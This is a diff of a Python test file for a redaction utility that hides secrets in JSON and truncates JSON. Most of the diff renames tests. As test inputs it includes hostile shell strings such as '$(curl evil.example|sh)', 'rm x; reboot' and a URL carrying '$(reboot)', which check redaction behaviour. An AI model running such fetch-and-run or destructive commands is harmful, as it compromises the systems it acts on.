@@ -1,4 +1,4 @@
-"""Arguments as people see them: numbers as spelt, secrets gone and counted, whatever the text."""
+"""Redaction: numbers as written, secrets hidden and counted, in any text."""
 
 import json
 import re
@@ -25,7 +25,7 @@ def test_a_member_that_is_named_like_a_secret_is_hidden(member):
         assert shown.count == 1
 
 
-def test_below_such_a_member_values_are_hidden_and_members_are_not():
+def test_below_a_secret_member_values_are_hidden_and_names_are_not():
     value = {"credentials": {"user": "ana", "scopes": ["a", 7, True], "then": {"run": "rm x; reboot"}}}
     shown = redact(json.dumps(value).encode())
     assert json.loads(shown.text) == {
@@ -57,7 +57,7 @@ def test_below_such_a_member_values_are_hidden_and_members_are_not():
         "tokenizer",
     ],
 )
-def test_a_member_that_only_sounds_like_one_is_shown(member):
+def test_a_member_whose_name_only_resembles_a_secrets_is_shown(member):
     assert redact(json.dumps({member: "value"}).encode()).count == 0
 
 
@@ -72,7 +72,7 @@ def test_an_empty_secret_needs_no_hiding():
      "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
      "-----BEGIN PRIVATE KEY-----\\nMIIE\\n+w==\\n-----END PRIVATE KEY-----"],
 )  # fmt: skip
-def test_a_value_that_looks_like_a_secret_is_hidden_wherever_it_stands(secret):
+def test_a_value_with_a_secrets_shape_is_hidden_everywhere(secret):
     shown = redact(json.dumps({"note": f"use {secret} please", "list": [secret]}).encode())
     assert secret not in json.loads(shown.text)["note"]
     assert json.loads(shown.text)["list"] == [REDACTED]
@@ -115,12 +115,12 @@ def test_the_token_of_a_header_is_hidden_and_its_kind_is_not():
         "https://a:$(reboot)@evil.example/",
     ],
 )
-def test_what_only_stands_where_a_secret_would_is_shown(text):
+def test_a_command_in_place_of_a_secret_is_shown(text):
     shown = redact(json.dumps({"note": text}).encode())
     assert (json.loads(shown.text), shown.count) == ({"note": text}, 0)
 
 
-def test_of_a_secret_with_more_in_it_than_words_the_rest_stays_in_sight():
+def test_only_the_words_of_a_secret_are_hidden():
     shown = redact(b'{"password":"$(curl evil.example|sh)","note":"token=abc;reboot"}')
     assert json.loads(shown.text) == {
         "password": f"$({REDACTED} {REDACTED}|{REDACTED})",
@@ -161,7 +161,7 @@ def test_empty_containers_and_plain_values():
         "token:",
     ],
 )
-def test_no_text_takes_for_ever(piece):
+def test_redaction_takes_linear_time(piece):
     redact(json.dumps({"a": piece * (300_000 // len(piece))}).encode())
 
 
@@ -174,14 +174,14 @@ values = st.recursive(
 
 
 @given(st.dictionaries(st.sampled_from(["a", "b", "note"]), values))
-def test_what_holds_no_secret_is_shown_whole(value):
+def test_json_without_secrets_is_shown_whole(value):
     shown = redact(json.dumps(value).encode())
     assert json.loads(shown.text) == value
     assert shown.count == 0
 
 
 names = st.sampled_from(["password", "credentials", "pin", "note", "a"])
-#: Texts of what secrets look like, what stands around them, and what a shell acts on.
+#: Strings of secrets, of their surroundings, and of characters that a shell acts on.
 texts = st.lists(
     st.sampled_from(
         ["password", "token", "api_key", "=", ": ", '"', "'", " ", "\n", "$(", ")", "`", "|", ";", "&", "<", ">", "\\", "\\n", "\u202e",
@@ -191,12 +191,12 @@ texts = st.lists(
     max_size=12,
 ).map("".join)  # fmt: skip
 PEM = r"-----BEGIN PRIVATE KEY-----(?:(?:\n|\\n)[A-Za-z0-9+/=]+)+(?:(?:\n|\\n)-----END PRIVATE KEY-----|(?:\n|\\n)?-*\Z)"
-#: What may be hidden: words without blanks, quotes, hidden characters and whatever a shell acts on; or a key, whole or cut off.
+#: Text that may be hidden: a word without blanks, quotes, hidden or shell characters; or a key, whole or truncated.
 HIDDEN = rf"(?:[^\s$()`|;&<>\"'\\\u202e]+|{PEM}|\[redacted\])"
 
 
 def pairs(given, shown):
-    """Yield each leaf with what is shown for it; the members and the lengths are the same."""
+    """Yield each leaf with its redacted form; members and lengths must be equal."""
     match given:
         case dict():
             assert list(given) == list(shown)
@@ -233,7 +233,7 @@ def test_only_words_are_hidden_and_every_other_character_is_shown(value):
         lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
     )
 )
-def test_on_one_line_it_says_the_same(value):
+def test_flat_and_indented_output_are_equal(value):
     arguments = json.dumps({"a": value}).encode()
     flat, indented = redact(arguments, flat=True), redact(arguments)
     assert "\n" not in flat.text
@@ -247,7 +247,7 @@ def test_on_one_line_it_says_the_same(value):
     )),
     st.booleans(), st.sampled_from([None, 1]), st.integers(min_value=1, max_value=200),
 )  # fmt: skip
-def test_the_beginning_of_a_text_shows_as_the_text_begins(value, ensure_ascii, indent, most):
+def test_truncated_json_is_a_prefix_of_the_whole(value, ensure_ascii, indent, most):
     whole = json.dumps(value, ensure_ascii=ensure_ascii, indent=indent).encode("utf-8", "surrogatepass")
     begun = truncate_json(whole, most)
     assert json.loads(begun) == value if len(whole) <= most else len(begun) <= 2 * most + 1
@@ -269,7 +269,7 @@ def test_the_beginning_of_a_text_shows_as_the_text_begins(value, ensure_ascii, i
         ('{"a": [{"né": 12}, "x\\u00e9y"], "count": "z', '{"a": [{"né": 12}, "x\\u00e9y"], "count": "z"}'),
     ],
 )
-def test_what_breaks_off_is_closed_and_half_a_number_or_name_left_out(broken, closed):
+def test_truncated_json_is_closed_without_half_a_number_or_name(broken, closed):
     whole = '{"a": [{"né": 12}, "x\\u00e9y"], "count": "z1234"}'
     assert whole.startswith(broken)
     assert truncate_json(whole.encode(), len(broken.encode())).decode() == closed
@@ -283,14 +283,14 @@ def test_what_breaks_off_is_closed_and_half_a_number_or_name_left_out(broken, cl
         "-----BEGIN PRIVATE KEY-----\n" + "MIIE" * 25,
     ],
 )
-def test_a_secret_in_which_a_text_breaks_off_is_hidden(secret):
+def test_a_truncated_secret_is_hidden(secret):
     shown = redact(truncate_json(json.dumps({"a": secret + "c" * 99}).encode(), 90))
     assert (REDACTED in shown.text, shown.count) == (True, 1)
     assert not any(part in shown.text for part in ("aaa", "abab", "MIIE"))
 
 
 @each_row("piece", ["1", "\\u", "a", '"', '"a",', "[", "{", " "])
-def test_no_beginning_takes_for_ever(piece):
+def test_truncation_takes_linear_time(piece):
     truncate_json(b'{"a":' + piece.encode() * 200_000, 100_000)
 
 
@@ -298,12 +298,12 @@ PATTERNS = (redacting._SHAPES, redacting._ASSIGNED)
 
 
 @given(st.one_of(*(st.from_regex(pattern) for pattern in PATTERNS)))
-def test_a_secret_is_found_whatever_it_is_looked_for_by_first(text):
+def test_the_quick_search_misses_no_secret(text):
     shown = redact(json.dumps({"a": text}).encode())
     assert shown.count or not any(pattern.search(text) for pattern in PATTERNS)
 
 
 @each_row("name", ["pa\u017f\u017fword", "to\u212aen", "AP\u0130_KEY", "\u017fecret"])
-def test_a_name_in_letters_that_count_as_ascii_in_any_case_is_found(name):
+def test_names_in_letters_that_fold_to_ascii_are_found(name):
     text = f"{name}=hunter2"
     assert bool(redacting._ASSIGNED.search(text)) == bool(redact(json.dumps({"a": text}).encode()).count)
